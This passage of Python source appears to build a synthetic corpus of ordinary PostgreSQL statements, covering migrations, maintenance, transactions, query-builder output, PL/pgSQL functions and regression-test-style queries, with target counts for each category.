            "ALTER TABLE job_postings ADD COLUMN IF NOT EXISTS search_tsv tsvector GENERATED ALWAYS AS (to_tsvector('english', title)) STORED",
            "CREATE TABLE IF NOT EXISTS fare_taps_%d PARTITION OF fare_taps FOR VALUES FROM ('%d-01-01') TO ('%d-01-01')" % ((lambda y: (y, y, y + 1))(r.randint(2019, 2030))),
            "DROP INDEX CONCURRENTLY IF EXISTS print_jobs_status_idx_%d" % n])

    @add("cx9_migration_flyway", "complex_migration_script")
    def _(r):
        v = r.randint(10, 400)
        return ("-- V%d__add_hold_expiry.sql\nALTER TABLE screening_seat_holds ADD COLUMN expires_at timestamptz NOT NULL DEFAULT now() + interval '10 minutes';\n"
                "CREATE INDEX screening_seat_holds_expiry_idx ON screening_seat_holds (expires_at);\n"
                "INSERT INTO flyway_schema_history (installed_rank, version, description, type, script, checksum, installed_by, execution_time, success) "
                "VALUES (%d, '%d', 'add hold expiry', 'SQL', 'V%d__add_hold_expiry.sql', %d, 'deploy', %d, true);" % (v, v, v, v, r.randint(-2 ** 31, 2 ** 31 - 1), r.randint(5, 900)))

    @add("cx9_migration_alembic", "complex_migration_script")
    def _(r):
        a, b = "%012x" % r.getrandbits(48), "%012x" % r.getrandbits(48)
        return r.choice([
            "BEGIN;\nCREATE TABLE interview_feedback (id serial NOT NULL, slot_id integer NOT NULL REFERENCES interview_slots (id), score smallint CHECK (score BETWEEN 1 AND 5), note text, PRIMARY KEY (id));\nUPDATE alembic_version SET version_num='%s' WHERE alembic_version.version_num = '%s';\nCOMMIT;" % (a, b),
            "INSERT INTO alembic_version (version_num) VALUES ('%s') RETURNING alembic_version.version_num" % a])

    @add("cx9_migration_rails", "complex_migration_script")
    def _(r):
        v = "%d%02d%02d%06d" % (r.randint(2019, 2025), r.randint(1, 12), r.randint(1, 28), r.randint(0, 235959))
        return r.choice([
            'INSERT INTO "schema_migrations" ("version") VALUES (\'%s\') RETURNING "version"' % v,
            'ALTER TABLE "gym_checkins" ADD "source" character varying DEFAULT \'turnstile\' NOT NULL',
            'CREATE UNIQUE INDEX "index_campaign_backers_on_campaign_slug_and_email" ON "campaign_backers" ("campaign_slug", "email")',
            'SELECT "schema_migrations"."version" FROM "schema_migrations" ORDER BY "schema_migrations"."version" ASC'])

    @add("cx9_migration_liquibase", "complex_migration_script")
    def _(r):
        return ("UPDATE public.databasechangeloglock SET LOCKED = TRUE, LOCKEDBY = 'build-agent-%d (10.0.%d.%d)', LOCKGRANTED = NOW() WHERE ID = 1 AND LOCKED = FALSE"
                % (r.randint(1, 40), r.randint(0, 255), r.randint(1, 254))) if r.random() < 0.5 else (
                "INSERT INTO public.databasechangelog (ID, AUTHOR, FILENAME, DATEEXECUTED, ORDEREXECUTED, MD5SUM, DESCRIPTION, COMMENTS, EXECTYPE, LIQUIBASE) "
                "VALUES ('%d-add-aliquot-volume', 'lab-platform', 'db/changelog/%d.xml', NOW(), %d, '9:%032x', 'addColumn tableName=sample_aliquots', '', 'EXECUTED', '4.24.0')"
                % (r.randint(1, 999), r.randint(2020, 2025), r.randint(1, 500), r.getrandbits(128)))

    @add("cx9_migration_script", "complex_migration_script")
    def _(r):
        return ("BEGIN;\nSET LOCAL lock_timeout = '%ds';\nALTER TABLE vm_instances ADD COLUMN retired_at timestamptz;\n"
                "UPDATE vm_instances SET retired_at = now() WHERE state = 'terminated' AND retired_at IS NULL;\nCOMMIT;" % r.randint(2, 30))

    # ---- maintenance / admin
    @add("cx9_maintenance", "complex_maintenance_admin")
    def _(r):
        t = r.choice(["fare_taps", "solar_inverter_readings", "gym_checkins", "print_jobs"])
        return r.choice([
            "VACUUM (VERBOSE, ANALYZE) %s" % t, "ANALYZE %s" % t, "REINDEX TABLE CONCURRENTLY %s" % t,
            "SELECT schemaname, relname, n_live_tup, n_dead_tup FROM pg_stat_user_tables WHERE relname = '%s'" % t,
            "SELECT pid, usename, application_name, state, now() - xact_start AS xact_age FROM pg_stat_activity WHERE state <> 'idle' ORDER BY xact_age DESC NULLS LAST LIMIT %d" % r.randint(5, 25),
            "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE query_start < now() - interval '%d minutes' AND state = 'active' AND usename = 'report_reader'" % r.randint(10, 120),
            "EXPLAIN (COSTS OFF) SELECT * FROM %s WHERE created_at > now() - interval '1 day'" % t,
            "SELECT relname, pg_size_pretty(pg_relation_size(oid)) FROM pg_class WHERE relkind = 'i' ORDER BY pg_relation_size(oid) DESC LIMIT %d" % r.randint(5, 20),
            "SET maintenance_work_mem = '%dMB'" % r.choice([256, 512, 1024]), "CHECKPOINT",
            "SELECT slot_name, active, pg_size_pretty(pg_wal_lsn_diff(pg_current_wal_lsn(), restart_lsn)) FROM pg_replication_slots"])

    @add("cx9_transactions", "complex_transactions")
    def _(r):
        return r.choice(["BEGIN", "BEGIN ISOLATION LEVEL SERIALIZABLE", "COMMIT", "ROLLBACK", "SAVEPOINT hold_%d" % r.randint(1, 999),
                         "RELEASE SAVEPOINT hold_%d" % r.randint(1, 999), "ROLLBACK TO SAVEPOINT hold_%d" % r.randint(1, 999),
                         "START TRANSACTION ISOLATION LEVEL READ COMMITTED, READ WRITE", "SET TRANSACTION READ ONLY", "COMMIT PREPARED 'berth-%s'" % rword(r, 6),
                         "SELECT pg_try_advisory_xact_lock(%d, %d)" % (r.randint(1, 99), r.randint(1, 99999)), "SET LOCAL idle_in_transaction_session_timeout = '%ds'" % r.randint(5, 120)])

    # ---- query builders
    @add("cx9_qb_jobs", "complex_query_builder")
    def _(r):
        conds = r.sample(["remote_ok = true", "salary_max >= %d" % (r.randint(3, 15) * 10000), "location_code IN ('LDN', 'MAN', 'EDI')",
                          "posted_on > current_date - 30", "(contract_type = 'permanent' OR contract_type = 'fixed-term')", "title ILIKE '%%%s%%'" % r.choice(["data", "union rep", "select"])], r.randint(1, 4))
        return "SELECT posting_id, title FROM job_postings WHERE 1 = 1 AND " + " AND ".join(conds) + " ORDER BY posted_on DESC LIMIT %d" % r.choice([20, 50])

    @add("cx9_qb_vm", "complex_query_builder")
    def _(r):
        conds = ["true"] + r.sample(["region = %s" % q(r.choice(["eu-west-2", "us-east-1"])), "vcpu BETWEEN %d AND %d" % (r.randint(1, 4), r.randint(8, 64)),
                                     "labels ? 'team'", "labels @> '{\"env\": \"prod\"}'", "state <> 'terminated'"], r.randint(1, 3))
        return "SELECT instance_id FROM vm_instances WHERE " + " AND ".join(conds)

    @add("cx9_qb_or", "complex_query_builder")
    def _(r):
        return ("SELECT declaration_no FROM customs_declarations WHERE (status = 'held' OR status = 'inspection') AND (declared_value > %d OR origin_country = %s) ORDER BY lodged_on"
                % (r.randint(1000, 90000), q(r.choice(["VN", "CO", "CN", "TR"]))))

    @add("cx9_qb_in_list", "complex_query_builder")
    def _(r):
        return "SELECT dock_id, station_code FROM bike_docks WHERE dock_id IN (%s) AND status <> 'removed'" % ", ".join(str(r.randint(1, 99999)) for _ in range(r.randint(2, 12)))

    # ---- parameterized, function bodies, search
    @add("cx9_param", "complex_parameterized")
    def _(r):
        return r.choice(["SELECT seat_label FROM screening_seat_holds WHERE screening_id = $1 AND hold_token = $2::uuid",
                         "UPDATE cellar_bins SET bottles = bottles - $1 WHERE bin_code = $2 AND bottles >= $1",
                         "INSERT INTO fare_taps (card_serial, tap_at, stop_code, fare_cents) VALUES ($1, $2, $3, $4)",
                         "SELECT * FROM add_case_note($1, $2)", "DELETE FROM court_filing_drafts WHERE draft_id = $1 AND author_login = $2"])

    @add("cx9_plpgsql", "complex_plpgsql_body")
    def _(r):
        return r.choice([
            "CREATE OR REPLACE FUNCTION add_case_note(p_case bigint, p_note text) RETURNS bigint LANGUAGE plpgsql AS $fn$\nDECLARE v_id bigint;\nBEGIN\n  INSERT INTO case_notes (case_id, note) VALUES (p_case, p_note) RETURNING id INTO v_id;\n  RETURN v_id;\nEND;\n$fn$",
            "CREATE OR REPLACE FUNCTION vacuum_tenant(p_schema text) RETURNS void LANGUAGE plpgsql AS $$\nBEGIN\n  EXECUTE format('ANALYZE %I.fare_taps', p_schema);\nEND;\n$$",
            "CREATE TRIGGER seat_holds_touch BEFORE UPDATE ON screening_seat_holds FOR EACH ROW EXECUTE FUNCTION touch_updated_at()",
            "DO $do$\nBEGIN\n  IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'valve_state') THEN\n    CREATE TYPE valve_state AS ENUM ('open', 'closed');\n  END IF;\nEND\n$do$",
            "CREATE FUNCTION bottles_left(p_bin text) RETURNS integer LANGUAGE sql STABLE RETURN (SELECT bottles FROM cellar_bins WHERE bin_code = p_bin)"])

    @add("cx9_search", "complex_search_complex")
    def _(r):
        return ("SELECT posting_id, ts_rank_cd(search_tsv, query) AS rank FROM job_postings, websearch_to_tsquery('english', %s) query WHERE search_tsv @@ query ORDER BY rank DESC LIMIT 20"
                % q(r.choice(["\"union organiser\" -sales", "select OR drop", "delete team lead", "sleep technician", "data OR analytics -junior"])))
    return G


COMPLEX_TARGET = {"complex_orm_generated": 80, "complex_builtin_funcs": 80, "complex_comments_hints": 60, "complex_cte_window": 43,
    "complex_query_builder": 40, "complex_migration_script": 40, "complex_union_report": 21, "complex_batch_insert": 20,
    "complex_maintenance_admin": 20, "complex_transactions": 20, "complex_copy_stdin": 17, "complex_ddl_migration": 17,
    "complex_orm_introspection": 8, "complex_parameterized": 5, "complex_plpgsql_body": 5, "complex_search_complex": 5}


# ---------------------------------------------------------------- regression-test-style statements
REGRESS_FIXED = [
 ("boolean", "SELECT bool 'yes' AS t, bool 'no' AS f, bool '1' AS t1"), ("boolean", "SELECT 'TrUe'::text::boolean AS true"),
 ("boolean", "-- ERROR:  invalid input syntax for type boolean\nSELECT bool 'yeah' AS error"), ("boolean", "SELECT istrue AND isnul AND istrue FROM booltbl3"),
 ("boolean", "SELECT b IS NOT UNKNOWN FROM booltbl3 ORDER BY o"), ("boolean", "SELECT 0::boolean, 1::boolean, 2::boolean"),
 ("char", "SELECT char 'c' = char 'c' AS true"), ("char", "SELECT CAST('abc' AS \"char\"), '\\101'::\"char\""),
 ("varchar", "SELECT '' AS four, c.* FROM VARCHAR_TBL c WHERE c.f1 <> 'a'"), ("varchar", "INSERT INTO VARCHAR_TBL (f1) VALUES ('abcde')"),
 ("name", "SELECT name 'name string' = name 'name string' AS \"True\""), ("name", "SELECT parse_ident('Schemax.Tabley')"),
 ("name", "SELECT parse_ident('\"SchemaX\".\"TableY\"')"), ("name", "SELECT c.f1 FROM NAME_TBL c WHERE c.f1 ~ '.*asdf.*'"),
 ("text", "SELECT text 'this is a text string' = text 'this is a text string' AS true"), ("text", "select concat(1, 2, 3, 'hello', true, false, to_date('20100309','YYYYMMDD'))"),
 ("text", "select format('Hello %s %s', 'World', 'Again')"), ("text", "select format('%2$s, %1$s', 'one', 'two')"), ("text", "select format('%I', 'Select')"),
 ("text", "select format('>>%-10s<<', NULL)"), ("text", "select right('ahoj', -2), left('ahoj', 2)"), ("text", "select quote_ident('foo bar'), quote_nullable(NULL)"),
 ("strings", "SELECT 'abc' LIKE 'a%' AS \"true\", 'abc' NOT LIKE '_b_' AS \"false\""), ("strings", "SELECT 'a_c' LIKE 'a$_c' ESCAPE '$' AS \"true\""),
 ("strings", "SELECT E'a\\\\nb' AS escaped, 'a\\nb' AS plain"), ("strings", "SET standard_conforming_strings = off"), ("strings", "RESET standard_conforming_strings"),
 ("strings", "SELECT U&'\\0441\\043B\\043E\\043D' AS \"slon\""), ("strings", "SELECT 'tiddly' || 'winks' AS \"Concat string to string\""),
 ("strings", "SELECT repeat('Pg', 4), repeat('Pg', -4)"), ("strings", "SELECT strpos('abcdef', 'cd') AS \"pos_3\""), ("strings", "SELECT translate('12345', '14', 'ax')"),
 ("strings", "SELECT ascii('x'), chr(65), chr(945)"), ("strings", "SELECT starts_with('foobar', 'foo'), starts_with('foobar', 'bar')"),
 ("strings", "SELECT string_to_array('1|2|3', '|')"), ("strings", "select string_agg(a, ',' order by a) from (values('aaaa'),('bbbb'),('cccc')) g(a)"),
 ("strings", "SELECT encode(decode('MTIzAAE=', 'base64'), 'hex')"), ("strings", "SELECT initcap('hi THOMAS')"), ("strings", "SELECT SUBSTRING('string' FROM 2 FOR 2147483646) AS \"tring\""),
 ("strings", "SELECT 'indio' NOT LIKE 'in__o' AS \"false\""), ("strings", "SELECT sha224('The quick brown fox jumps over the lazy dog.')"),
 ("int2", "SELECT '' AS five, i.* FROM INT2_TBL i WHERE i.f1 <> int2 '0'"), ("int2", "SELECT int2 '32767' + int2 '1'"), ("int2", "SELECT (-32768)::int2 / (-1)::int2"),
 ("int4", "SELECT i.f1, i.f1 * int4 '2' AS x FROM INT4_TBL i WHERE abs(f1) < 1073741824"), ("int4", "SELECT factorial(4) AS twenty_four"), ("int4", "SELECT -2+3 AS one"),
 ("int4", "SELECT (-1::int4<<31)::text"), ("int4", "SELECT gcd(330, 231), lcm(330, 231)"), ("int4", "SELECT int4 '-2147483648' - int4 '1'"),
 ("int8", "SELECT * FROM INT8_TBL WHERE q2 <> 4567890123456789"), ("int8", "SELECT q1, q2, q1 & q2 AS \"and\", q1 | q2 AS \"or\", ~q1 AS \"not\" FROM INT8_TBL"),
 ("int8", "SELECT * FROM generate_series('+4567890123456789'::int8, '+4567890123456799'::int8, 2)"), ("int8", "SELECT CAST(q1 AS int4) FROM int8_tbl WHERE q2 <> 456"),
 ("oid", "SELECT o.* FROM OID_TBL o WHERE o.f1 >= '1234'"), ("oid", "SELECT '-1040'::oid"),
 ("float4", "SELECT f.f1, f.f1 / '-10' AS x FROM FLOAT4_TBL f WHERE f.f1 > '0.0'"), ("float4", "SELECT 'Infinity'::float4 / 'Infinity'::float4"),
 ("float8", "SELECT f.f1, round(f.f1) AS round_f1 FROM FLOAT8_TBL f"), ("float8", "SELECT sqrt(float8 '64') AS eight"), ("float8", "SELECT |/ float8 '64' AS eight"),
 ("float8", "SELECT exp(float8 '-0.0') AS one"), ("float8", "SELECT acosd(0.5), asind(0.5), atand(1)"), ("float8", "SELECT '10e400'::float8"),
 ("numeric", "SELECT numeric '1.5' * numeric '2.25'"), ("numeric", "SELECT div(12345678.901, 1234), mod(12345678.901, 1234)"), ("numeric", "SELECT scale(0.00), scale(1.12345)"),
 ("numeric", "SELECT round(2.5::numeric), round(-2.5::numeric), round(2.5::float8)"), ("numeric", "SELECT sqrt(2::numeric)"), ("numeric", "SELECT ln(1e-100)"),
 ("numeric", "SELECT 'NaN'::numeric = 'NaN'::numeric"), ("numeric", "SELECT to_char(12345.678, '99G999D999')"), ("numeric", "SELECT to_number('-34,338,492', '99G999G999')"),
 ("numeric", "SELECT min_scale(1.1000), trim_scale(1.1000)"), ("numeric", "SELECT log(10, 1000)"),
 ("uuid", "SELECT '11111111-1111-1111-1111-111111111111'::uuid < '22222222-2222-2222-2222-222222222222'::uuid"), ("uuid", "SELECT count(DISTINCT guid_field) FROM guid1"),
 ("enum", "CREATE TYPE rainbow9 AS ENUM ('red', 'orange', 'yellow', 'green', 'blue', 'purple')"), ("enum", "SELECT enum_range(NULL::rainbow9)"),
 ("enum", "SELECT enum_first(NULL::rainbow9), enum_last('green'::rainbow9)"), ("enum", "ALTER TYPE rainbow9 RENAME VALUE 'red' TO 'crimson'"),
 ("money", "SELECT '1234567890'::money"), ("money", "SELECT m / 2::float8 FROM money_data"), ("money", "SELECT (-12345678901234567)::numeric::money"),
 ("rangetypes", "select numrange(1.1, 2.2) && numrange(2.0, 3.3)"), ("rangetypes", "select '(,5)'::int4range - '[3,)'::int4range"),
 ("rangetypes", "select lower(tstzrange('2024-01-01', '2024-02-01')), upper_inc('[1,2]'::int4range)"), ("rangetypes", "select range_merge('[1,3)'::int4range, '[5,7)'::int4range)"),
 ("rangetypes", "select * from numrange_test where nr @> 1.7"), ("multirangetypes", "select '{[1,3), [7,9)}'::int4multirange @> 8"),
 ("multirangetypes", "SELECT range_agg(r) FROM (VALUES ('[1,3)'::int4range), ('[2,5)'::int4range)) t(r)"), ("pg_lsn", "SELECT '0/16AE7F8'::pg_lsn - '0/16AE7F7'::pg_lsn"),
 ("regproc", "SELECT regoper('||/'), regproc('now')"), ("regproc", "SELECT to_regclass('pg_class'), to_regtype('int4')"),
 ("date", "SELECT date '1999-01-08' - date '1999-01-01' AS seven"), ("date", "SELECT date 'tomorrow' > date 'today'"), ("date", "SELECT EXTRACT(DOW FROM DATE '2020-08-11')"),
 ("date", "SELECT date_trunc('MILLENNIUM', DATE '1970-03-20')"), ("date", "SELECT isfinite('infinity'::date), isfinite(current_date)"),
 ("time", "SELECT f1 AS \"Time\" FROM TIME_TBL WHERE f1 < '05:06:07'"), ("time", "SELECT '23:59:59.999999'::time + interval '1 us'"), ("time", "SELECT date_part('minute', TIME '2020-05-26 13:30:25.575401')"),
 ("timetz", "SELECT '11:59 PM PST'::timetz"), ("timestamp", "SELECT timestamp without time zone '1997-02-10 17:32:01-0800'"),
 ("timestamp", "SELECT d1 - timestamp without time zone '1997-01-02' AS diff FROM TIMESTAMP_TBL WHERE d1 BETWEEN '1902-01-01' AND '2038-01-01'"),
 ("timestamp", "SELECT make_timestamp(2014, 12, 28, 6, 30, 45.887)"), ("timestamptz", "SELECT make_timestamptz(1973, 07, 15, 08, 15, 55.33, '+2')"),
 ("timestamptz", "SELECT '2000-01-01 00:00:00 Europe/Helsinki'::timestamptz"), ("timestamptz", "SET TimeZone to 'UTC'"), ("timestamptz", "RESET TimeZone"),
 ("interval", "SELECT interval '1 year 2 months 3 days 04:05:06.7'"), ("interval", "SELECT '1 day'::interval * 0.5"), ("interval", "SELECT justify_interval(interval '1 mon -1 hour')"),
 ("interval", "SELECT extract(epoch from interval '1 month')"), ("interval", "SELECT f1, f1 / 2 FROM INTERVAL_TBL ORDER BY f1"), ("interval", "SET IntervalStyle to postgres_verbose"),
 ("horology", "SELECT to_timestamp('2011-12-18 11:38 PM', 'YYYY-MM-DD HH12:MI PM')"), ("horology", "SELECT to_date('2458872', 'J')"),
 ("horology", "SELECT to_char(d1, 'DAY Day day DY Dy dy MONTH Month month RM MON Mon mon') FROM TIMESTAMP_TBL"), ("horology", "SELECT (timestamp '2016-06-05 12:00' , timestamp '2016-06-05 13:00') OVERLAPS (timestamp '2016-06-05 12:30', interval '1 hour')"),
 ("inet", "SELECT set_masklen(inet('192.168.1.5/24'), 16)"), ("inet", "SELECT host(i), masklen(i), family(i) FROM INET_TBL"), ("inet", "SELECT '192.168.1.5'::inet & '255.255.0.0'::inet"),
 ("inet", "SELECT network('10.1.2.3/8'::inet), broadcast('10.1.2.3/8'::inet)"), ("macaddr", "SELECT trunc(macaddr '08:00:2b:01:02:03')"), ("macaddr8", "SELECT macaddr8_set7bit('00:08:2b:01:02:03:04:05')"),
 ("tstypes", "SELECT 'a:1 b:2 c:3'::tsvector @@ 'a & c'::tsquery"), ("tstypes", "SELECT setweight('w:12B w:13* w:12,5,6 a:1,3* a:3 w asd:1dc asd'::tsvector, 'c')"),
 ("tstypes", "SELECT ts_delete(to_tsvector('english', 'Rats are even more common than mice'), 'rat')"), ("tsearch", "SELECT to_tsquery('english', 'supernovae & !crab')"),
 ("tsearch", "SELECT ts_headline('english', 'Day after day, day after day, we stuck', to_tsquery('english', 'day & stuck'))"), ("tsearch", "SELECT numnode(plainto_tsquery('the any'))"),
 ("tsearch", "SELECT phraseto_tsquery('english', 'PostgreSQL can be extended by the user in many ways')"),
 ("geometry", "SELECT p1.f1 <-> p2.f1 AS dist FROM POINT_TBL p1, POINT_TBL p2 WHERE p1.f1 <> p2.f1 ORDER BY dist LIMIT 3"), ("geometry", "SELECT area(box '((0,0),(2,3))')"),
 ("geometry", "SELECT '((0,0),(1,1),(2,0))'::polygon @> point '(1,0.5)'"), ("geometry", "SELECT lseg '[(0,0),(1,1)]' ?# lseg '[(0,1),(1,0)]'"),
 ("circle", "SELECT circle '<(5,1),3>' <-> point '(10,10)'"), ("path", "SELECT npoints(path '[(1,2),(3,4),(5,6)]'), isclosed(path '((0,0),(1,1))')"),
 ("bit", "SELECT B'1011' | B'0110', B'1011' << 2"), ("bit", "SELECT bit_count(B'101011'), length(B'1010')"), ("bit", "SELECT overlay(B'0101011100' placing '001' from 2 for 3)"),
 ("json", "SELECT '[1,2,3]'::json -> 2"), ("json", "SELECT json_object_keys('{\"a\":1,\"b\":2}')"), ("json", "SELECT row_to_json(row(1,'foo'))"),
 ("json", "select json_array_length('[1,2,3,{\"f1\":1,\"f2\":[5,6]},4]')"), ("json", "SELECT json_agg(q ORDER BY x) FROM (SELECT x, x*2 AS y FROM generate_series(1,3) x) q"),
 ("jsonb", "SELECT '{\"a\":[1,2]}'::jsonb @> '{\"a\":[2]}'"), ("jsonb", "SELECT jsonb_strip_nulls('{\"a\":null,\"b\":{\"c\":null,\"d\":1}}')"),
 ("jsonb", "SELECT '{\"a\":1,\"b\":2}'::jsonb - 'a'"), ("jsonb", "SELECT jsonb_insert('{\"a\": [0,1,2]}', '{a, 1}', '\"new_value\"')"), ("jsonb", "SELECT '[\"a\",\"b\"]'::jsonb ?| array['b','c']"),
 ("jsonb", "SELECT jsonb_each_text('{\"k\":\"v\",\"n\":null}')"), ("jsonb", "select ('{\"a\": {\"b\": 1}}'::jsonb)['a']['b']"),
 ("jsonpath", "select '$.a[*] ? (@ > 2)'::jsonpath"), ("jsonpath", "select jsonb_path_query('{\"a\": [1,2,3,4]}', 'lax $.a[last]')"),
 ("jsonpath", "select jsonb_path_match('{\"x\": 3}', '$.x > 2')"), ("jsonpath", "select jsonb_path_query_array('[1, \"a\", null]', '$[*].type()')"),
 ("xml", "SELECT xmlelement(name employee, xmlattributes(42 AS id), 'Jim')"), ("xml", "SELECT xmlforest('abc' AS foo, 123 AS bar)"), ("xml", "SELECT xmlserialize(content '<a/>'::xml AS text)"),
 ("arrays", "SELECT array_dims(ARRAY[[1,2,3],[4,5,6]])"), ("arrays", "SELECT ARRAY[1,2] || 3 AS \"{1,2,3}\""), ("arrays", "SELECT array_replace(ARRAY[1,2,5,4], 5, 3)"),
 ("arrays", "SELECT cardinality(ARRAY[[1,2],[3,4]])"), ("arrays", "SELECT a[1:2] FROM arrtest"), ("arrays", "SELECT 1 = ANY ('{1,2,3}'::int[]), 4 <> ALL ('{1,2,3}')"),
 ("arrays", "SELECT array_positions(ARRAY[1,2,1,3], 1)"), ("arrays", "select array_agg(ten ORDER BY ten DESC) from (select ten from tenk1 where unique1 < 6) ss"),
 ("btree_index", "SELECT b.* FROM bt_txt_heap b WHERE b.seqno = '4500'"), ("btree_index", "CREATE INDEX btree_part_idx ON btree_tall_tbl (id) WHERE id > 100"),
 ("hash_index", "CREATE INDEX hash_txt_index9 ON hash_txt_heap USING hash (random text_ops)"), ("create_index", "CREATE INDEX onek2_u2_prtl9 ON onek2 USING btree(unique2 int4_ops) WHERE stringu1 < 'B'"),
 ("create_index", "CREATE INDEX ggpolygonind9 ON gpolygon_tbl USING gist (f1)"), ("create_index", "EXPLAIN (COSTS OFF) SELECT * FROM tenk1 WHERE thousand = 42 AND (tenthous = 1 OR tenthous = 3 OR tenthous = 42)"),
 ("create_index", "CREATE INDEX CONCURRENTLY on concur_heap(f2,f1)"), ("create_index", "DROP INDEX CONCURRENTLY IF EXISTS \"concur_index2\""),
 ("create_table", "CREATE TABLE ctlt9 (a text CHECK (length(a) > 2) PRIMARY KEY, b text)"), ("create_table", "CREATE TABLE hash_parted9 (a int) PARTITION BY HASH (a)"),
 ("create_table", "CREATE TABLE hpart9_1 PARTITION OF hash_parted9 FOR VALUES WITH (MODULUS 4, REMAINDER 0)"), ("create_table", "CREATE UNLOGGED TABLE unlogged9 (a int primary key)"),
 ("create_table", "CREATE TABLE default_expr9 (a int DEFAULT (random() * 100)::int, b text DEFAULT 'x' || 'y')"),
 ("create_view", "CREATE VIEW key_dependent_view9 AS SELECT * FROM view_base_table GROUP BY key"), ("create_view", "CREATE OR REPLACE TEMP VIEW v9 AS SELECT 1 AS a, 'two'::text AS b"),
 ("create_view", "SELECT pg_get_viewdef('v9'::regclass, true)"),
 ("alter_table", "ALTER TABLE attmp RENAME COLUMN a TO aa"), ("alter_table", "ALTER TABLE attmp ALTER COLUMN b SET STATISTICS 150"), ("alter_table", "ALTER TABLE IF EXISTS tt9 SET SCHEMA alter2"),
 ("alter_table", "alter table atacc9 add constraint atacc9_chk check (test2 > test) no inherit"), ("alter_table", "ALTER TABLE onek ALTER COLUMN unique1 SET (n_distinct = -1)"),
 ("alter_table", "alter table parted9 attach partition part9_2 for values in (2)"), ("alter_table", "ALTER TABLE ONLY attbl9 DROP CONSTRAINT IF EXISTS attbl9_pkey"),
 ("inherit", "CREATE TABLE c9 (c text) INHERITS (a9)"), ("inherit", "SELECT relname, a9.* FROM ONLY a9, pg_class where a9.tableoid = pg_class.oid"),
 ("inherit", "UPDATE a9 SET aa = 'zzzzzz' WHERE aa = 'aaaa'"), ("partition_prune", "explain (costs off) select * from lp where a is not null and (a = 'a' or a = 'c')"),
 ("partition_prune", "explain (costs off) select * from rlp where a = 1 or b = 'ab'"), ("partition_join", "EXPLAIN (COSTS OFF) SELECT t1.a, t2.b FROM prt1 t1, prt2 t2 WHERE t1.a = t2.b AND t1.b = 0"),
 ("insert", "insert into inserttest (f2[1], f2[2]) values (1,2)"), ("insert", "insert into inserttest (f3.if1, f3.if2) values (1,array['foo'])"), ("insert", "insert into inserttest values (10, 20, '40'), (-1, 2, DEFAULT)"),
 ("insert_conflict", "insert into insertconflicttest values (23, 'Blackberry') on conflict (key) do update set fruit = excluded.fruit where excluded.fruit <> 'Lime'"),
 ("insert_conflict", "insert into insertconflicttest values (1, 'Apple') on conflict do nothing"),
 ("update", "UPDATE update_test SET a = DEFAULT, b = DEFAULT"), ("update", "UPDATE update_test SET (b,a) = (select a,b from update_test where b = 41 and c = 'car') WHERE a = 100 AND b = 20"),
 ("update", "UPDATE update_test AS t SET b = 10 WHERE t.a = 10 RETURNING t.*"), ("delete", "DELETE FROM delete_test WHERE a > 25 RETURNING a"),
 ("merge", "MERGE INTO target t USING source AS s ON t.tid = s.sid WHEN MATCHED THEN UPDATE SET balance = 0"),
 ("merge", "MERGE INTO target t USING source AS s ON t.tid = s.sid WHEN NOT MATCHED THEN INSERT VALUES (s.sid, s.delta) WHEN MATCHED AND t.balance > 100 THEN DELETE"),
 ("select", "SELECT onek.* FROM onek WHERE onek.unique1 < 10 ORDER BY onek.unique1"), ("select", "SELECT p.name, p.age FROM person* p ORDER BY age using >, name"),
 ("select", "SELECT * FROM onek2 WHERE unique2 = 11 AND stringu1 = 'ATAAAA'"), ("select", "select foo from (select 1 offset 0) as foo"),
 ("select_distinct", "SELECT DISTINCT two FROM onek ORDER BY 1"), ("select_distinct", "SELECT 1 IS NOT DISTINCT FROM 2 as \"no\""),
 ("select_having", "SELECT b, c FROM test_having GROUP BY b, c HAVING count(*) = 1 ORDER BY b, c"), ("select_having", "SELECT min(a), max(a) FROM test_having HAVING min(a) < max(a)"),
 ("select_into", "SELECT * INTO TABLE sitmp9 FROM onek WHERE onek.unique1 < 2"), ("subselect", "SELECT f1 AS \"Correlated Field\" FROM SUBSELECT_TBL WHERE f1 IN (SELECT f2 FROM SUBSELECT_TBL WHERE f2 = f1)"),
 ("subselect", "select (select max((select i.unique2 from tenk1 i where i.unique1 = o.unique1))) from tenk1 o"), ("subselect", "SELECT * FROM int4_tbl WHERE f1 NOT IN (SELECT f1 FROM int4_tbl WHERE f1 > 0)"),
 ("union", "SELECT 1 AS one UNION SELECT 1 ORDER BY 1"), ("union", "SELECT 1.1 AS two UNION SELECT 2 UNION SELECT 2.0::float8 ORDER BY 1"),
 ("union", "SELECT q1 FROM int8_tbl EXCEPT ALL SELECT q2 FROM int8_tbl ORDER BY 1"), ("union", "(SELECT unique1 FROM tenk1 LIMIT 1) UNION ALL (SELECT unique2 FROM tenk1 LIMIT 1)"),
 ("union", "select count(*) from ( select unique1 from tenk1 union select fivethous from tenk1 ) ss"), ("union", "SELECT NULL::int UNION SELECT 42 UNION SELECT NULL ORDER BY 1 NULLS FIRST"),
 ("case", "SELECT CASE 'a' WHEN 'a' THEN 1 ELSE 2 END"), ("case", "SELECT COALESCE(a.f, b.i, b.j) FROM CASE_TBL a, CASE2_TBL b"), ("case", "SELECT '' AS \"Two\", * FROM CASE_TBL a, CASE2_TBL b WHERE COALESCE(f,b.i) = 2"),
 ("join", "SELECT * FROM J1_TBL NATURAL JOIN J2_TBL"), ("join", "SELECT * FROM J1_TBL CROSS JOIN J2_TBL ORDER BY 1, 2 LIMIT 5"), ("join", "select * from int8_tbl x left join lateral (select x.q1 as lq1) ss on true"),
 ("join", "select * from tenk1 a join tenk1 b on a.unique1 = b.unique2 full join tenk1 c on b.unique1 = c.unique2 where a.hundred = 4"),
 ("aggregates", "SELECT max(four) AS max_3 FROM onek"), ("aggregates", "SELECT stddev_pop(b) FROM aggtest"), ("aggregates", "SELECT regr_slope(b, a), regr_r2(b, a) FROM aggtest"),
 ("aggregates", "select count(*) filter (where four > 1), count(*) from onek"), ("aggregates", "select mode() within group (order by unique1) from tenk1"),
 ("aggregates", "select array_agg(distinct a order by a desc) from (values (1),(2),(1),(3)) v(a)"), ("aggregates", "SELECT bit_and(i4), bit_or(i4) FROM bitwise_test"),
 ("window", "SELECT depname, empno, salary, rank() OVER (PARTITION BY depname ORDER BY salary DESC) FROM empsalary"), ("window", "SELECT lead(ten, 2, -1) OVER (PARTITION BY four ORDER BY ten), ten FROM tenk1 WHERE unique2 < 10"),
